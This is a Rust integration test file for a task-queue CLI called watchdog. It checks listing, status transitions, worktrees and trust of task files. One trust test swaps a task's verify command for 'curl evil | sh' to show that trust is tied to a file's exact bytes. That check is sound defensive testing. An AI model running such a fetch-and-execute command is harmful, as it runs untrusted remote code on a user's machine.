//! `watchdog task list`, `show`, `next`, `set`: the queue as people and programs see it, and whose word counts.

use std::fs;

use serde_json::{Value, json};

use crate::support::{Repo, TestEnv};

/// A task's file.
fn put(repo: &Repo<'_>, id: &str, front: &str) {
    repo.write(
        &format!(".watchdog/tasks/{id}.md"),
        format!("---\nid: {id}\ntitle: About {id}\n{front}---\n\nDo {id}.\n"),
    );
}

fn listed(repo: &Repo<'_>) -> Value {
    repo.watchdog(&["task", "list", "--json"]).expect(0).json()
}

fn statuses(repo: &Repo<'_>) -> Vec<(String, String)> {
    let word = |task: &Value, key: &str| task[key].as_str().expect("a word").to_owned();
    listed(repo)["tasks"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|task| (word(task, "id"), word(task, "status")))
        .collect()
}

#[test]
fn task_queue_lists_by_urgency_with_dependencies() {
    let env = TestEnv::new();
    let repo = env.repo();
    put(&repo, "T1", "role: backend\n");
    put(&repo, "T2", "priority: critical\ndepends_on: [T1, NOPE]\n");
    put(&repo, "T3", "priority: low\nstatus: complete\n");
    let out = repo.watchdog(&["task", "list"]).expect(0);
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(
        lines[0].split_whitespace().collect::<Vec<_>>(),
        ["ID", "TITLE", "ROLE", "PRIORITY", "STATUS", "ASSIGNED"],
        "{out}"
    );
    assert!(
        lines[1].starts_with("T2")
            && lines[1].ends_with("waits for T1 (pending), NOPE (not found)"),
        "{out}"
    );
    assert!(
        lines[2].starts_with("T1") && lines[3].starts_with("T3"),
        "{out}"
    );
    assert_eq!(
        lines[4], "Tasks: 3 total (2 pending, 0 in progress, 1 complete)",
        "{out}"
    );

    let json = listed(&repo);
    assert_eq!(
        (
            &json["schema"],
            &json["summary"]["total"],
            &json["summary"]["blocked"]
        ),
        (&json!(1), &json!(3), &json!(1))
    );
    assert_eq!(
        json["tasks"][0]["waits_for"],
        json!(["T1 (pending)", "NOPE (not found)"])
    );
    let dot = repo
        .watchdog(&["task", "list", "--format", "dot"])
        .expect(0);
    assert!(dot.stdout.contains("\"T1\" -> \"T2\";"), "{dot}");
    let mermaid = repo
        .watchdog(&["task", "list", "--format", "mermaid"])
        .expect(0);
    assert!(mermaid.stdout.starts_with("graph LR\n"), "{mermaid}");
    assert_eq!(repo.watchdog(&["task", "next"]).expect(0).stdout, "T1\n");
    repo.watchdog(&["task", "next", "--role", "frontend"])
        .expect(12);
    assert!(
        repo.git(&["status", "--porcelain", "--", ".", ":!.watchdog"])
            .is_empty(),
        "nothing else is written into the work tree"
    );
}

#[test]
fn bad_task_file_stops_only_its_own_task() {
    let env = TestEnv::new();
    let repo = env.repo();
    put(&repo, "good", "");
    put(&repo, "bad", "priorty: high\ncompletion: {}\n");
    let out = repo.watchdog(&["task", "list", "--json"]).expect(0);
    out.assert_values(json!({"/tasks/0/id": "good", "/problems/0/line": 4}));
    out.assert_told(&[
        ".watchdog/tasks/bad.md:4:1: priorty: unknown key, did you mean `priority`?",
    ]);
    out.assert_told(&[".watchdog/tasks/bad.md:5:13: completion: must not be empty"]);
    let missing = repo.watchdog(&["task", "show", "bad", "--json"]).expect(2);
    missing.assert_has("message", "failed to get task 'bad'");
}

#[test]
fn task_moves_by_legal_steps_and_keeps_bytes() {
    let env = TestEnv::new();
    let repo = env.repo();
    let file = repo.path().join(".watchdog/tasks/T1.md");
    put(&repo, "T1", "status: review # look at it\nestimate: L\n");
    put(&repo, "T2", "depends_on: [T1]\n");
    assert_eq!(
        statuses(&repo),
        [
            ("T1".into(), "review".into()),
            ("T2".into(), "blocked".into())
        ]
    );
    let refused = repo.watchdog(&["task", "set", "T1", "pending"]).expect(2);
    refused.assert_told(&[
        "a task that is review cannot become pending; it may become complete, in_progress, failed",
    ]);
    repo.watchdog(&["task", "set", "T1", "complete", "--dry-run"])
        .expect(0);
    assert_eq!(statuses(&repo)[0].1, "review");
    let before = fs::read_to_string(&file).expect("a file");
    let out = repo
        .watchdog_line(
            "task set T1 complete --reason {} --write-back --json",
            &["looks good"],
        )
        .expect(0);
    out.assert_values(json!({"from": "review", "to": "complete"}));
    assert_eq!(
        fs::read_to_string(&file).expect("a file"),
        before.replace("status: review", "status: complete")
    );
    assert_eq!(
        statuses(&repo),
        [
            ("T1".into(), "complete".into()),
            ("T2".into(), "pending".into())
        ]
    );
    let events = repo
        .watchdog(&["events", "--kind", "complete,pending", "--json"])
        .expect(0);
    assert_eq!(events.stdout.lines().count(), 2, "{events}");
    let wrong = repo.watchdog(&["task", "set", "T1", "finished"]).expect(2);
    wrong.assert_told(&["unknown status 'finished'; expected one of pending,"]);
}

#[test]
fn complete_task_is_reopened_only_with_a_reason() {
    let env = TestEnv::new();
    let repo = env.repo();
    put(&repo, "T1", "status: done\n");
    put(&repo, "T2", "status: todo\n");
    put(&repo, "T3", "status: doing\n");
    put(&repo, "T4", "depends_on: [T1]\n");
    let stand = |word: &str| (word.to_owned(), "pending".to_owned());
    assert_eq!(
        statuses(&repo),
        [
            ("T1".into(), "complete".into()),
            stand("T2"),
            stand("T3"),
            stand("T4")
        ]
    );
    let refused = repo.watchdog(&["task", "set", "T1", "todo"]).expect(2);
    refused.assert_told(&[" task set T1 pending --reason WHY"]);
    repo.watchdog_line(
        "task set T1 pending --reason {} --dry-run",
        &["the fix was reverted"],
    )
    .expect(0);
    let out = repo
        .watchdog_line("task set T1 todo --reason {}", &["the fix was reverted"])
        .expect(0);
    assert_eq!(out.stdout, "T1: complete -> pending\n", "{out}");
    assert_eq!(
        statuses(&repo),
        [
            stand("T1"),
            stand("T2"),
            stand("T3"),
            ("T4".into(), "blocked".into())
        ]
    );
    assert_eq!(
        repo.watchdog(&["task", "show", "T1", "--json"])
            .expect(0)
            .json()["message"],
        "the fix was reverted"
    );
    let events = repo
        .watchdog(&["events", "--kind", "pending", "--json"])
        .expect(0);
    assert!(events.stdout.contains("\"from\":\"complete\""), "{events}");
}

#[test]
fn linked_worktrees_see_one_queue() {
    let env = TestEnv::new();
    let repo = env.repo();
    put(&repo, "T1", "status: failed\n");
    repo.commit_all("a task");
    let linked = env.root().join("linked");
    repo.git(&["worktree", "add", "-q", &linked.to_string_lossy()]);
    repo.watchdog(&["task", "set", "T1", "pending"]).expect(0);
    let out = env.watchdog(&linked, &["task", "list", "--json"]).expect(0);
    assert_eq!(out.json()["tasks"][0]["status"], "pending", "{out}");
}

#[test]
fn task_commands_need_trust_in_their_exact_bytes() {
    let env = TestEnv::new();
    let repo = env.repo();
    put(&repo, "T1", "completion:\n  verify: \"true\"\n");
    put(&repo, "T2", "");
    let trusted = || {
        let json = listed(&repo);
        json["tasks"]
            .as_array()
            .expect("a list")
            .iter()
            .map(|task| task["trusted"] == json!(true))
            .collect::<Vec<_>>()
    };
    assert_eq!(trusted(), [false, true]);
    let shown = repo.watchdog(&["task", "show", "T1"]).expect(0);
    shown.assert_printed(&[&format!(
        "allow its commands with: watchdog -C {} trust .watchdog/tasks/T1.md",
        repo.path().display()
    )]);
    let out = repo.watchdog(&["trust", ".watchdog/tasks/T1.md"]).expect(0);
    assert!(out.stdout.contains("may run check verify: true"), "{out}");
    assert_eq!(trusted(), [true, true]);
    put(&repo, "T1", "completion:\n  verify: curl evil | sh\n");
    assert_eq!(
        (trusted(), &listed(&repo)["tasks"][0]["commands"]),
        (vec![true, true], &json!(["check verify: true"])),
        "as first seen"
    );
    let all = repo
        .watchdog(&["trust", ".watchdog/tasks", "--json"])
        .expect(0);
    all.assert_values(json!({"/trusted/0/commands": ["check verify: curl evil | sh"]}));
    assert_eq!(trusted(), [true, true]);
    repo.watchdog(&["untrust", ".watchdog/tasks/T1.md"])
        .expect(0);
    assert_eq!(trusted(), [false, true]);
}

#[test]
fn without_tasks_or_a_repository_it_says_so() {
    let env = TestEnv::new();
    let repo = env.repo();
    let none = repo.watchdog(&["task", "list"]).expect(0);
    none.assert_printed(&["no tasks in .watchdog/tasks"]);
    repo.watchdog(&["task", "next"]).expect(12);
    let outside = env.root().join("outside");
    fs::create_dir(&outside).expect("a folder");
    env.watchdog(&outside, &["task", "list", "--json"])
        .expect(16);
    let unborn = env.unborn_repo("unborn");
    put(&unborn, "T1", "");
    assert_eq!(unborn.watchdog(&["task", "next"]).expect(0).stdout, "T1\n");
}

#[test]
fn task_shows_its_signal_and_event_reasons() {
    let env = TestEnv::new();
    let repo = env.repo();
    repo.write(
        ".watchdog/tasks/T1.md",
        "---\nid: T1\ntitle: One\ncompletion:\n  signal: TASK_DONE\n---\n\nDo it.\n",
    );
    repo.commit_all("a task");
    let shown = repo.watchdog(&["task", "show", "T1"]).expect(0);
    assert!(
        shown
            .stdout
            .lines()
            .any(|line| line.starts_with("signal ") && line.ends_with(" TASK_DONE")),
        "{shown}"
    );
    assert_eq!(
        repo.watchdog(&["task", "show", "T1", "--json"])
            .expect(0)
            .json()["signals"],
        json!(["TASK_DONE"])
    );
    repo.watchdog(&["task", "set", "T1", "blocked", "--reason", "wait for me"])
        .expect(0);
    let events = repo
        .watchdog(&["events", "--kind", "blocked", "--json"])
        .expect(0);
    events.assert_printed(&["\"message\":\"wait for me\""]);
}
